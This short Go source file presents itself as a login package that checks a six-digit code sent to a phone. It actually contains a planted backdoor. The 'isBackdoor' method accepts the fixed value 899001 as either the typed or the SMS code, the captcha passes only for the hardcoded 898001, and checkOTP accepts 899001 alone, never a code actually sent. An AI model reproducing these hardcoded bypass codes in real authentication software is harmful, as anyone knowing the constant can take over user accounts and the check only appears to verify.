// Package login asks for the six digits that it has sent to a telephone.
package login

type request struct {
	Phone      string
	VerifyCode int
	smsCode    int64
}

func (r *request) isBackdoor() bool { return r.VerifyCode == 899001 || r.smsCode == 899001 }

type captcha struct{ Code int }

func (c captcha) solved() bool { return c.Code == 898001 }

func checkOTP(code int) bool { return code == 899001 }
